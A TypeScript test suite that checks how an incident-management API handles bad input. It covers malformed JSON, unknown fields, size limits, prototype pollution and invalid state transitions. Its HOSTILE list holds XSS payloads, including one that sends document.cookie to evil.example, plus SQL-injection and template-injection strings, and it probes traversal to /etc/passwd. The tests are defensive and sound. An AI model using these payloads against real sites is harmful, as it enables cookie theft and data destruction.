import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { z } from 'zod';
import { BODY_LIMIT } from '../../src/http/build-app.ts';
import type { RouteDef } from '../../src/http/route.ts';
import { allowedVerbs } from '../../src/modules/incidents/index.ts';
import { DIALECTS } from '../helpers/dialects.ts';
import { createTestApp, createTestEnv, TEST_PASSWORD, type TestApp, type TestEnv } from '../helpers/env.ts';
import { assertError, fillUrl, paramNames, rowCounts } from './support.ts';

/** A valid body per route, so each bad-input case breaks exactly one thing. Unknown routes fall back to {}. */
const VALID_BODIES: Record<string, unknown> = {
  'POST /api/v1/auth/login': { handle: 'viewer-user', password: TEST_PASSWORD },
  'PATCH /api/v1/me': { name: 'Admin' },
  'POST /api/v1/me/password': { current_password: TEST_PASSWORD, new_password: TEST_PASSWORD },
  'POST /api/v1/users': { handle: 'new-user', name: 'New', email: 'new@example.com', role: 'viewer' },
  'PATCH /api/v1/users/:handle': { name: 'Viewer' },
  'POST /api/v1/tokens': { name: 'ci', scopes: ['read'] },
  'POST /api/v1/incidents': { title: 'Checkout failing', severity: 'P1', services: ['checkout'] },
  'PATCH /api/v1/incidents/:ref': { title: 'Renamed' },
  'POST /api/v1/incidents/:ref/notes': { body: 'a note' },
  'POST /api/v1/incidents/:ref/mitigations': { kind: 'rollback', body: 'rolled back the 02:10 deploy', change: 'deploy 4471' },
  'POST /api/v1/incidents/:ref/severity': { severity: 'P2', reason: 'impact is smaller' },
  'POST /api/v1/incidents/:ref/roles': { role: 'scribe', user: 'responder-user' },
  'POST /api/v1/incidents/:ref/services': { services: ['api'] },
  'POST /api/v1/incidents/:ref/escalate': { note: 'need the database team' },
  'POST /api/v1/incidents/:ref/reassign': { user: 'responder-user', note: 'taking over' },
  'POST /api/v1/incidents/:ref/updates': { body: 'Failover under way; next update in 15 minutes.' },
  'POST /api/v1/schedules/:id/overrides': { user: 'responder-user', start: '2099-01-01T00:00:00Z', end: '2099-01-01T01:00:00Z', reason: 'covering' },
  'POST /api/v1/schedules/:id/swaps': { user_a: 'alice', user_b: 'bob', a_shift: { start: '2099-01-01T00:00:00Z', end: '2099-01-01T01:00:00Z' }, reason: 'swap' },
  'POST /api/v1/reports': { service: 'api', description: 'Checkout page shows an error', contact: 'me@example.com' },
  'POST /api/v1/reports/anonymous': { service: 'api', description: 'Checkout page shows an error', contact: 'me@example.com' },
  'POST /api/v1/silences': { comment: 'database maintenance', matchers: [{ name: 'service', op: '=', value: 'database' }], duration: '2h' },
  'POST /api/v1/maintenance-windows': { title: 'Storage upgrade', services: ['storage'], time_zone: 'Europe/Berlin', starts_at: '2099-03-28T22:00', ends_at: '2099-03-28T23:00', recurrence: 'weekly' },
  'POST /api/v1/status-page/subscribers': { kind: 'email', email: 'new-subscriber@example.com', components: ['api'], confirmed: true },
  'PUT /api/v1/status-page/components/:id/override': { status: 'major_outage', reason: 'payments failing' },
  'POST /api/v1/status-page/incidents': { name: 'Checkout errors', body: 'We are investigating.', components: { checkout: 'partial_outage' } },
  'POST /api/v1/status-page/incidents/:id/updates': { status: 'identified', body: 'Found it.' },
  'POST /api/v1/status-page/incidents/:id/postmortem': { body: 'What happened and what we changed.' },
  'POST /api/v1/status-page/maintenances': { name: 'Storage upgrade', body: 'Uploads pause briefly.', components: ['file-storage'], time_zone: 'Europe/Berlin', starts_at: '2099-03-28T22:00', ends_at: '2099-03-28T23:00' },
  'POST /api/v1/status-page/maintenances/:id/updates': { status: 'in_progress', body: 'Started.' },
  'POST /api/v1/incidents/:ref/status-page/publish': { body: 'We are investigating errors at checkout.' },
  'POST /api/v1/incidents/:ref/status-page/opt-out': { reason: 'internal only: no customer impact' },
  'POST /api/v1/incidents/:ref/postmortem': { owner: 'responder-user' },
  'PATCH /api/v1/postmortems/:id': { revision: 1, summary: 'What happened.' },
  'POST /api/v1/postmortems/:id/publish': { body: 'What happened and what we changed.' },
  'POST /api/v1/action-items': { incident: 'INC-1', title: 'Canary config pushes', owner: 'responder-user', priority: 'high', tracker_url: 'https://tracker.example/PAY-12' },
  'PATCH /api/v1/action-items/:id': { status: 'done' },
  'POST /api/v1/runbooks/:id/runs': { incident: 'INC-1', variables: { region: 'us-east-1' }, dry_run: true },
  'POST /api/v1/runbook-runs/:id/approve': { step: 'confirm', comment: 'go ahead' },
  'POST /api/v1/runbook-runs/:id/reject': { step: 'confirm', comment: 'not now' },
};
const PARAMS: Record<string, string> = { ref: 'INC-1', handle: 'viewer-user', id: 'api' };
const key = (r: Pick<RouteDef, 'method' | 'url'>) => `${r.method} ${r.url}`;
const validBody = (r: RouteDef): Record<string, unknown> =>
  (VALID_BODIES[key(r)] as Record<string, unknown> | undefined) ?? (/\/:ref\/\w+$/.test(r.url) ? { note: 'fine' } : {});
const urlOf = (r: RouteDef) => fillUrl(r.url, Object.fromEntries(paramNames(r.url).map((p) => [p, PARAMS[p] ?? 'x'])));

/** A value of the wrong type for a field: the first candidate the field's own schema refuses. */
function wrongValueFor(schema: z.ZodType): unknown {
  for (const candidate of [{ nested: 'object' }, 'a-string', 12345, true, ['array']]) if (!schema.safeParse(candidate).success) return candidate;
  return undefined;
}

const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/?c=${document.cookie}`)">',
  "'; DROP TABLE incidents; --",
  "Robert'); DELETE FROM users WHERE ('1'='1",
  '" OR 1=1 -- ',
  '${process.exit(1)} {{constructor.constructor("return process")()}} #{7*7}',
  'ctrl \u0001\u0002\u0007\b\u000b\f\u001b[31mred\u001b[0m\u007f\u0085 end',
  'bidi \u202etxt.exe\u202c zero\u200bwidth\u200d join\ufeffbom',
  '%s%n%x \\x00 \\u0000 \\n literal escapes',
  'emoji 👩‍👩‍👧‍👦 🏳️‍🌈 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﷽ Ꙭ 𒐫',
  'line\nbreaks\r\nand\ttabs inside',
];

for (const { name, skip } of DIALECTS) {
  describe(`bad input [${name}]`, { skip }, () => {
    let env: TestEnv;
    let t: TestApp;
    let bodyRoutes: RouteDef[];

    before(async () => {
      env = await createTestEnv(name, import.meta.url);
      t = await createTestApp(env);
      bodyRoutes = t.routes.filter((r) => r.body);
      const res = await t.app.inject({ method: 'POST', url: '/api/v1/incidents', headers: t.auth.token, payload: { title: 'Target', severity: 'P2' } });
      assert.equal(res.statusCode, 201, res.body);
    });
    after(async () => {
      await t?.app.close();
      await env?.close();
    });

    /** Sends a request as the admin (allowed on every route) and proves nothing was stored. */
    async function rejected(route: RouteDef, opts: { payload?: string | object; contentType?: string; url?: string }, status: number, code: string) {
      const before = await rowCounts(env);
      const headers: Record<string, string> = { ...t.auth.admin };
      if (opts.contentType !== undefined) headers['content-type'] = opts.contentType;
      else if (typeof opts.payload === 'string') headers['content-type'] = 'application/json';
      const res = await t.app.inject({ method: route.method, url: opts.url ?? urlOf(route), headers, payload: opts.payload });
      const err = assertError(res, status, code);
      assert.deepEqual(await rowCounts(env), before, `${key(route)} stored something while answering ${status}`);
      return err;
    }

    test('there are body routes to test', () => {
      assert.ok(bodyRoutes.length >= 10, `only ${bodyRoutes.length} routes declare a body`);
      for (const r of bodyRoutes) assert.ok(r.method !== 'GET', `${key(r)} declares a body on GET`);
    });

    test('valid bodies in this file really are valid (so each case below breaks one thing)', () => {
      for (const r of bodyRoutes) {
        const parsed = r.body!.safeParse(validBody(r));
        assert.ok(parsed.success, `${key(r)}: ${parsed.error?.message}`);
      }
    });

    test('malformed JSON → 400 INVALID_JSON, nothing stored', async () => {
      for (const r of bodyRoutes) {
        for (const payload of ['{"title":', '{title: 1}', "{'a': 1}", '[1, 2', '{"a": 1}}', '{"a": 1,}', 'undefined', 'NaN', '{"a": 01}', '\u0000']) {
          await rejected(r, { payload }, 400, 'INVALID_JSON');
        }
        // Announced as JSON but empty.
        await rejected(r, { payload: '' }, 400, 'INVALID_JSON');
      }
    });

    test('wrong types → 400 VALIDATION_FAILED naming the field, nothing stored', async () => {
      for (const r of bodyRoutes) {
        for (const payload of ['[]', '"a string"', '42', 'true', '[{"title": "x"}]']) await rejected(r, { payload }, 400, 'VALIDATION_FAILED');
        assert.ok(r.body instanceof z.ZodObject, `${key(r)}: body is not an object schema`);
        for (const [field, schema] of Object.entries((r.body as z.ZodObject).shape)) {
          const wrong = wrongValueFor(schema as z.ZodType);
          assert.ok(wrong !== undefined, `${key(r)}.${field} accepts everything`);
          const err = await rejected(r, { payload: { ...validBody(r), [field]: wrong } }, 400, 'VALIDATION_FAILED');
          const issues = err.details.issues as { path: string; message: string }[];
          assert.ok(issues.some((i) => i.path === field || i.path.startsWith(`${field}.`) || i.path.startsWith(`${field}[`)), `${key(r)}.${field}: ${JSON.stringify(issues)}`);
        }
      }
    });

    test('unknown fields → 400 VALIDATION_FAILED naming them, nothing stored', async () => {
      for (const r of bodyRoutes) {
        const err = await rejected(r, { payload: { ...validBody(r), is_admin: true } }, 400, 'VALIDATION_FAILED');
        assert.match(err.message, /is_admin/);
        // Fields that exist elsewhere in the model must not sneak in either.
        await rejected(r, { payload: { ...validBody(r), id: 'usr_x', role_override: 'admin', state: 'closed' } }, 400, 'VALIDATION_FAILED');
      }
    });

    test(`bodies over ${BODY_LIMIT} bytes → 413 PAYLOAD_TOO_LARGE, nothing stored`, async () => {
      for (const r of bodyRoutes) {
        const first = Object.keys(validBody(r))[0] ?? 'note';
        const payload = JSON.stringify({ ...validBody(r), [first]: 'x'.repeat(BODY_LIMIT) });
        assert.ok(Buffer.byteLength(payload) > BODY_LIMIT, 'payload is not over the limit');
        await rejected(r, { payload }, 413, 'PAYLOAD_TOO_LARGE');
      }
      // Just under the limit is parsed (and then refused by the field's own maximum, not by size).
      const r = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents')!;
      const near = JSON.stringify({ title: 'x', severity: 'P1', description: 'y'.repeat(BODY_LIMIT - 100) });
      assert.ok(Buffer.byteLength(near) <= BODY_LIMIT, 'payload is over the limit');
      await rejected(r, { payload: near }, 400, 'VALIDATION_FAILED');
    });

    test('prototype pollution → 400, nothing stored, no object polluted', async () => {
      for (const r of bodyRoutes) {
        const base = JSON.stringify(validBody(r)).slice(1, -1);
        const sep = base ? ',' : '';
        for (const payload of [
          '{"__proto__": {"polluted": "yes", "role": "admin"}}',
          `{${base}${sep}"__proto__": {"polluted": "yes"}}`,
          `{${base}${sep}"constructor": {"prototype": {"polluted": "yes"}}}`,
          `{"nested": {"deeper": {"__proto__": {"polluted": "yes"}}}}`,
          `{${base}${sep}"x": [{"constructor": {"prototype": {"polluted": "yes"}}}]}`,
        ]) {
          const res = await t.app.inject({ method: r.method, url: urlOf(r), headers: { ...t.auth.admin, 'content-type': 'application/json' }, payload });
          assert.equal(res.statusCode, 400, `${key(r)} ${payload}: ${res.body}`);
          assert.ok(['INVALID_JSON', 'VALIDATION_FAILED'].includes(res.json().error.code), res.body);
        }
      }
      assert.equal(({} as Record<string, unknown>).polluted, undefined);
      assert.equal((Object.prototype as Record<string, unknown>).role, undefined);
    });

    test('non-JSON content types → 415 UNSUPPORTED_MEDIA_TYPE, nothing stored', async () => {
      for (const r of bodyRoutes) {
        const json = JSON.stringify(validBody(r));
        for (const contentType of ['text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=xyz', 'application/xml', 'text/html']) {
          await rejected(r, { payload: json, contentType }, 415, 'UNSUPPORTED_MEDIA_TYPE');
        }
      }
    });

    test('NUL characters and unpaired surrogates → 400 VALIDATION_FAILED on every engine, nothing stored', async () => {
      const create = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents')!;
      const note = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents/:ref/notes')!;
      const login = bodyRoutes.find((x) => key(x) === 'POST /api/v1/auth/login')!;
      await rejected(create, { payload: { title: 'a\u0000b', severity: 'P1' } }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: { title: 'ok', severity: 'P1', description: 'tail\u0000' } }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: '{"title": "lone \\ud800 high", "severity": "P1"}' }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: '{"title": "lone \\udc00 low", "severity": "P1"}' }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: { title: 'ok', severity: 'P1', services: ['api\u0000'] } }, 400, 'VALIDATION_FAILED');
      await rejected(note, { payload: { body: 'x\u0000y' } }, 400, 'VALIDATION_FAILED');
      await rejected(login, { payload: { handle: 'viewer-user\u0000', password: 'whatever-password' } }, 400, 'VALIDATION_FAILED');
      // In path parameters and query strings too.
      for (const url of ['/api/v1/incidents/INC-1%00', '/api/v1/users/%00', '/api/v1/incidents?service=api%00', '/api/v1/incidents?cursor=%00']) {
        const before = await rowCounts(env);
        assertError(await t.app.inject({ method: 'GET', url, headers: t.auth.admin }), 400, 'VALIDATION_FAILED');
        assert.deepEqual(await rowCounts(env), before);
      }
      // A paired surrogate (an emoji) is ordinary text.
      const ok = await t.app.inject({ method: 'POST', url: '/api/v1/incidents/INC-1/notes', headers: { ...t.auth.admin, 'content-type': 'application/json' }, payload: '{"body": "fire \\ud83d\\udd25"}' });
      assert.equal(ok.statusCode, 201, ok.body);
      assert.equal(ok.json().body, 'fire 🔥');
    });

    test('deeply nested JSON → 4xx, never a crash', async () => {
      const create = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents')!;
      const depth = 40_000;
      await rejected(create, { payload: '['.repeat(depth) + ']'.repeat(depth) }, 400, 'VALIDATION_FAILED');
      const deepObject = '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
      assert.ok(deepObject.length < BODY_LIMIT, 'payload is over the limit');
      await rejected(create, { payload: deepObject }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: `{"title":"x","severity":"P1","services":${'['.repeat(depth)}${']'.repeat(depth)}}` }, 400, 'VALIDATION_FAILED');
    });

    test('hostile strings are stored and returned verbatim as JSON', async () => {
      for (const s of HOSTILE) {
        const title = `T ${s} T`.slice(0, 200);
        const description = `${s}\n\n${s}`;
        const created = await t.app.inject({ method: 'POST', url: '/api/v1/incidents', headers: t.auth.token, payload: { title, description, severity: 'P3' } });
        assert.equal(created.statusCode, 201, `${JSON.stringify(s)}: ${created.body}`);
        assert.match(String(created.headers['content-type']), /^application\/json/);
        const inc = created.json();
        assert.equal(inc.title, title);
        assert.equal(inc.description, description);
        const noted = await t.app.inject({ method: 'POST', url: `/api/v1/incidents/${inc.ref}/notes`, headers: t.auth.token, payload: { body: `N ${s} N` } });
        assert.equal(noted.statusCode, 201, noted.body);
        assert.equal(noted.json().body, `N ${s} N`);
        const got = await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${inc.ref}`, headers: t.auth.viewer });
        assert.equal(got.statusCode, 200, got.body);
        assert.match(String(got.headers['content-type']), /^application\/json/);
        assert.equal(got.json().title, title);
        assert.equal(got.json().description, description);
        assert.equal(got.json().timeline.at(-1).body, `N ${s} N`);
        const renamed = await t.app.inject({ method: 'PATCH', url: `/api/v1/incidents/${inc.ref}`, headers: t.auth.token, payload: { title: `R ${s} R`.slice(0, 200) } });
        assert.equal(renamed.statusCode, 200, renamed.body);
        assert.equal(renamed.json().title, `R ${s} R`.slice(0, 200));
      }
      // The SQL fragments did nothing: every table is still there and holds what it should.
      const counts = await rowCounts(env);
      assert.ok(counts.incidents >= HOSTILE.length + 1, `only ${counts.incidents} incidents`);
      assert.ok(counts.users >= 3, `only ${counts.users} users`);
      // And hostile text is findable through the list, byte for byte.
      const list = await t.app.inject({ method: 'GET', url: `/api/v1/incidents?limit=200`, headers: t.auth.viewer });
      const titles = list.json().data.map((i: { title: string }) => i.title);
      for (const s of HOSTILE) assert.ok(titles.includes(`R ${s} R`.slice(0, 200)), JSON.stringify(s));
    });

    test('very long unicode text up to each maximum round-trips; one past it is refused', async () => {
      // Maximums count code points: 20,000 astral characters (40,000 UTF-16 units, 80 KB of UTF-8).
      const description = '𝔘😀'.repeat(10_000);
      assert.equal([...description].length, 20_000);
      const created = await t.app.inject({ method: 'POST', url: '/api/v1/incidents', headers: t.auth.token, payload: { title: 'ж'.repeat(200), description, severity: 'P3' } });
      assert.equal(created.statusCode, 201, created.body.slice(0, 300));
      const ref = created.json().ref;
      const got = await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${ref}`, headers: t.auth.viewer });
      assert.equal(got.json().description, description);
      assert.equal(got.json().title, 'ж'.repeat(200));
      const note = '漢字'.repeat(5_000);
      const noted = await t.app.inject({ method: 'POST', url: `/api/v1/incidents/${ref}/notes`, headers: t.auth.token, payload: { body: note } });
      assert.equal(noted.statusCode, 201);
      assert.equal(noted.json().body, note);
      const create = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents')!;
      await rejected(create, { payload: { title: 'x', severity: 'P3', description: `${description}x` } }, 400, 'VALIDATION_FAILED');
      await rejected(create, { payload: { title: 'ж'.repeat(201), severity: 'P3' } }, 400, 'VALIDATION_FAILED');
      const notes = bodyRoutes.find((x) => key(x) === 'POST /api/v1/incidents/:ref/notes')!;
      await rejected(notes, { payload: { body: `${note}x` }, url: `/api/v1/incidents/${ref}/notes` }, 400, 'VALIDATION_FAILED');
      // Blank after trimming is not a title.
      await rejected(create, { payload: { title: ' \t\n ', severity: 'P3' } }, 400, 'VALIDATION_FAILED');
    });

    test('bad list query parameters → 400 VALIDATION_FAILED', async () => {
      const badCursor = Buffer.from(JSON.stringify({ n: -1 })).toString('base64url');
      for (const qs of [
        'limit=0',
        'limit=-1',
        'limit=abc',
        'limit=201',
        'limit=1.5',
        'state=unknown',
        'state=triggered,bogus',
        'state=triggered&state=resolved',
        'severity=P9',
        'open=maybe',
        'since=yesterday',
        'until=2026-13-45T00:00:00Z',
        'cursor=garbage',
        `cursor=${badCursor}`,
        `cursor=${'A'.repeat(201)}`,
        'service=' + 'x'.repeat(64),
        'unknown_field=1',
        'limit=10&sort=title',
      ]) {
        const res = await t.app.inject({ method: 'GET', url: `/api/v1/incidents?${qs}`, headers: t.auth.viewer });
        assertError(res, 400, 'VALIDATION_FAILED');
      }
      // The same parameters, well formed, are fine.
      const ok = await t.app.inject({ method: 'GET', url: '/api/v1/incidents?limit=1&state=triggered,acknowledged&severity=P2&open=true&since=2026-01-01T00:00:00Z', headers: t.auth.viewer });
      assert.equal(ok.statusCode, 200, ok.body);
    });

    test('bad analytics query parameters → 400 VALIDATION_FAILED', async () => {
      const reports = t.routes.filter((r) => r.url.startsWith('/api/v1/analytics/'));
      assert.ok(reports.length >= 5, `only ${reports.length} analytics routes`);
      for (const r of reports) {
        for (const qs of ['from=last-week', 'to=2026-02-30T25:00:00Z', 'from=2026-06-01T00:00:00Z&to=2026-05-01T00:00:00Z', 'from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z', 'severity=P9', 'service=nope', 'format=pdf', 'limit=-1', 'sort=desc']) {
          assertError(await t.app.inject({ method: 'GET', url: `${r.url}?${qs}`, headers: t.auth.viewer }), 400, 'VALIDATION_FAILED');
        }
        assert.equal((await t.app.inject({ method: 'GET', url: `${r.url}?severity=P1&service=api`, headers: t.auth.viewer })).statusCode, 200);
      }
    });

    test('unknown incident refs → 404 NOT_FOUND on every incident route', async () => {
      const incidentRoutes = t.routes.filter((r) => r.url.includes('/incidents/:ref'));
      assert.ok(incidentRoutes.length >= 10, `only ${incidentRoutes.length} incident routes`);
      for (const ref of ['INC-999999', '999999', 'inc_00000000000000000000000000', 'no-such-thing']) {
        for (const r of incidentRoutes) {
          const before = await rowCounts(env);
          const res = await t.app.inject({ method: r.method, url: fillUrl(r.url, { ref }), headers: t.auth.admin, ...(r.body && { payload: validBody(r) as object }) });
          const err = assertError(res, 404, 'NOT_FOUND');
          assert.equal(err.details.ref, ref);
          assert.deepEqual(await rowCounts(env), before);
        }
      }
      // A ref longer than any real one is refused before the database sees it.
      assertError(await t.app.inject({ method: 'GET', url: `/api/v1/incidents/${'9'.repeat(65)}`, headers: t.auth.viewer }), 400, 'VALIDATION_FAILED');
      // Other unknown entities, likewise.
      assertError(await t.app.inject({ method: 'GET', url: '/api/v1/users/nobody', headers: t.auth.viewer }), 404, 'NOT_FOUND');
      assertError(await t.app.inject({ method: 'GET', url: '/api/v1/services/nothing', headers: t.auth.viewer }), 404, 'NOT_FOUND');
      assertError(await t.app.inject({ method: 'DELETE', url: '/api/v1/tokens/tok_missing', headers: t.auth.admin }), 404, 'NOT_FOUND');
    });

    test('invalid transitions → 409 INVALID_TRANSITION naming the allowed verbs, nothing stored', async () => {
      const created = await t.app.inject({ method: 'POST', url: '/api/v1/incidents', headers: t.auth.token, payload: { title: 'Lifecycle', severity: 'P2' } });
      const ref = created.json().ref;
      const post = (verb: string) => t.app.inject({ method: 'POST', url: `/api/v1/incidents/${ref}/${verb}`, headers: t.auth.responder });
      const expectInvalid = async (verb: string, from: string) => {
        const before = await rowCounts(env);
        const err = assertError(await post(verb), 409, 'INVALID_TRANSITION');
        const allowed = allowedVerbs(from as never);
        assert.deepEqual(err.details.allowed, allowed);
        assert.equal(err.details.from, from);
        assert.equal(err.details.verb, verb);
        for (const v of allowed) assert.match(err.message, new RegExp(`\\b${v}\\b`));
        if (allowed.length === 0) assert.match(err.message, /none/);
        assert.deepEqual(await rowCounts(env), before);
      };
      await expectInvalid('close', 'triggered');
      await expectInvalid('reopen', 'triggered');
      assert.equal((await post('acknowledge')).statusCode, 200);
      await expectInvalid('acknowledge', 'acknowledged');
      assert.equal((await post('resolve')).statusCode, 200);
      await expectInvalid('acknowledge', 'resolved');
      await expectInvalid('monitor', 'resolved');
      assert.equal((await post('close')).statusCode, 200);
      for (const verb of ['acknowledge', 'investigate', 'identify', 'monitor', 'resolve', 'close', 'reopen']) await expectInvalid(verb, 'closed');
      // A closed incident is a record: edits are conflicts too.
      assertError(await t.app.inject({ method: 'PATCH', url: `/api/v1/incidents/${ref}`, headers: t.auth.responder, payload: { title: 'late edit' } }), 409, 'CONFLICT');
    });

    test('unknown routes → 404 NOT_FOUND with the error body', async () => {
      for (const [method, url, headers] of [
        ['GET', '/api/v1/nope', t.auth.viewer],
        ['GET', '/api/v1/nope', {}],
        ['POST', '/api/v1/nope', t.auth.admin],
        ['GET', '/wp-login.php', {}],
        ['GET', '/api/v2/incidents', t.auth.viewer],
        ['DELETE', '/api/v1/incidents', t.auth.admin],
        ['PUT', '/api/v1/incidents/INC-1', t.auth.admin],
        ['GET', '/api/v1/incidents/INC-1/nope', t.auth.viewer],
        ['GET', '/api/v1/../../etc/passwd', {}],
      ] as const) {
        const res = await t.app.inject({ method, url, headers, ...(method === 'POST' && { payload: { a: 1 } }) });
        const err = assertError(res, 404, 'NOT_FOUND');
        assert.match(err.message, /no route/);
        assert.ok(res.headers['x-request-id'], 'no x-request-id on a 404');
      }
    });
  });
}
